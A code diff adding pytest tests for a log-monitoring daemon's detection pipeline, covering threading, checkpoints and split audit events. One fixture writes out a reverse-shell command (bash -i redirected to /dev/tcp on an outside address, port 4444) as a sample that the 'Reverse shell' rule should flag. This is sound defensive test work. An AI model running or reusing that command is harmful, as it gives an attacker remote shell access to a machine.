@@ -1,15 +1,25 @@
 """What was caused is stored with the position reached; a store that cannot write pauses reading and drops nothing."""
 
 import asyncio
+import contextlib
 import itertools
-from collections.abc import Callable, Iterator
+import threading
+from collections.abc import Callable, Container, Iterator
 from pathlib import Path
 
 import pytest
 
-from daemon.config import Alerts, Webhook
-from daemon.model import Lost, Sample, Transient
+from daemon.channel import ClosedError
+from daemon.cli.demo.scenario import Execution, execve
+from daemon.config import Alerts, Config, Webhook, read_rule_files
+from daemon.detection.rules import parse_rules
+from daemon.enrichment.redact import Redactor
+from daemon.events.readers import build_reader
+from daemon.flow import Flow, Outcome
+from daemon.model import Checkpoint, Lines, Lost, Position, Sample, Snapshot, Transient
 from daemon.pipeline import Pipeline
+from daemon.runtime import build_flow
+from daemon.side_thread import Aside, SideThread, at_once
 from daemon.state import Commit
 from daemon.state.store import SqliteStore
 from daemon.telemetry import Board, HealthState, Metrics
@@ -84,13 +94,17 @@ def noting(tmp_path: Path) -> Iterator[Noting]:
     store.close()
 
 
-def a_pipeline(store: Noting, *, monotonic: Callable[[], float] = lambda: 0.0) -> Pipeline:
+def a_pipeline(
+    store: Noting, *, flow: Flow | None = None, monotonic: Callable[[], float] = lambda: 0.0,
+    now: Callable[[], float] = lambda: T0, aside: Aside = at_once,
+) -> Pipeline:  # fmt: skip
     async def sleep(seconds: float) -> None:
         del seconds
 
     return Pipeline(
-        a_flow(), store, alerts=Alerts(), webhooks=[], waits_for_memory=False, board=Board(lambda: 0.0),
-        metrics=Metrics(), now=lambda: T0, monotonic=monotonic, sleep=sleep, stored=lambda: None, no_room=lambda: None,
+        flow or a_flow(), store, alerts=Alerts(), webhooks=[], waits_for_memory=False, board=Board(lambda: 0.0),
+        metrics=Metrics(), now=now, monotonic=monotonic, sleep=sleep, stored=lambda: None, no_room=lambda: None,
+        aside=aside,
     )  # fmt: skip
 
 
@@ -148,3 +162,104 @@ async def test_losses_that_wait_are_bounded(noting: Noting) -> None:
         group.create_task(pipeline.run())
 
     assert [incident.count for incident in await noting.incidents(limit=9)] == [50]
+
+
+class Elsewhere(Flow):
+    """A flow that notes on which threads it is asked anything, and whether it ever is by two at a time."""
+
+    def __init__(self) -> None:
+        vars(self).update(vars(a_flow()))
+        self.asked: dict[str, set[int]] = {}
+        self.busy = self.overlapped = False
+
+    @contextlib.contextmanager
+    def _noting(self, what: str) -> Iterator[None]:
+        self.overlapped, self.busy = self.overlapped or self.busy, True
+        self.asked.setdefault(what, set()).add(threading.get_ident())
+        yield
+        self.busy = False
+
+    def feed(self, item: Lines | Sample | Lost) -> Outcome:
+        with self._noting("feed"):
+            return super().feed(item)
+
+    def tick(self, now: float, behind: Container[str] = ()) -> Outcome:
+        with self._noting("tick"):
+            return super().tick(now, behind)
+
+    def changes(self) -> tuple[Snapshot, ...]:
+        with self._noting("changes"):
+            return super().changes()
+
+
+async def test_a_slow_flow_never_holds_the_loop_and_is_asked_one_thing_at_a_time(noting: Noting) -> None:
+    """By this clock everything takes a second, so not one piece may be done on the loop."""
+    flow, seconds = Elsewhere(), itertools.count()
+    thread = SideThread("flow", monotonic=lambda: float(next(seconds)))
+    pipeline = a_pipeline(noting, flow=flow, aside=thread, monotonic=lambda: float(next(seconds)))
+    async with asyncio.TaskGroup() as group:
+        group.create_task(pipeline.run())
+        at = 0
+        for number in range(40):
+            item = lines(SSHD.format(f"{number:03}") * 3, at)
+            at = item.checkpoint.position.offset
+            await pipeline.emit(item)
+        await pipeline.close()
+    thread.close()
+
+    assert set(flow.asked) == {"feed", "tick", "changes"}
+    assert threading.get_ident() not in set().union(*flow.asked.values())
+    assert not flow.overlapped
+    assert pipeline.taken == 40
+    titles = {incident.rule.title for incident in await noting.incidents(limit=9)}
+    assert "SSH brute force from one address" in titles
+    assert await noting.checkpoints() == [item.checkpoint]
+
+
+async def test_no_time_passes_for_a_source_while_lines_of_it_wait(noting: Noting) -> None:
+    """The worst bug: under load an event is closed as incomplete while its other half stands in the queue."""
+    shell = ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")
+    whole = execve(Execution(shell, "/usr/bin/bash", 5000, 900, "www-data", 33), T0, 4100)
+    head = whole.index(b"\n") + 1
+    redactor, clock = Redactor(), itertools.count(step=5)
+    reader = build_reader("audit", "auditd", host="web-1", now=lambda: T0, usernames=str, redact=redactor.text)
+    flow = build_flow(Config(), parse_rules(read_rule_files(["shipped"])), {"audit": reader}, redactor)
+    pipeline = a_pipeline(noting, flow=flow, monotonic=lambda: float(next(clock)), now=lambda: T0 + float(next(clock)))
+
+    def part(start: int, end: int) -> Lines:
+        def at(offset: int) -> Position:
+            return Position("/audit.log", "1:1", offset)
+
+        return Lines("audit", whole[start:end], at(start), Checkpoint("audit", at(end)))
+
+    await pipeline.emit(part(0, head))
+    for _ in range(60):
+        await pipeline.emit(part(head, head))
+    await pipeline.emit(part(head, len(whole)))
+    await pipeline.close()
+
+    await pipeline.run()
+
+    found = await noting.incidents(limit=9)
+    assert [incident.rule.title for incident in found if "incomplete" in incident.entity] == []
+    assert "Reverse shell" in {incident.rule.title for incident in found}
+
+
+async def test_what_a_source_could_not_hand_over_does_not_count_as_waiting(noting: Noting) -> None:
+    """The worst bug: a source that was stopped while it waited for room is never asked for what time completes."""
+    flow = Elsewhere()
+    pipeline = a_pipeline(noting, flow=flow)
+    await pipeline.close()
+    with pytest.raises(ClosedError):
+        await pipeline.emit(lines(SSHD.format("001")))
+    seen: list[Container[str]] = []
+
+    def tick(now: float, behind: Container[str] = ()) -> Outcome:
+        seen.append(behind)
+        return Flow.tick(flow, now, behind)
+
+    vars(flow)["tick"] = tick
+
+    await pipeline.run()
+
+    assert seen == [set()]
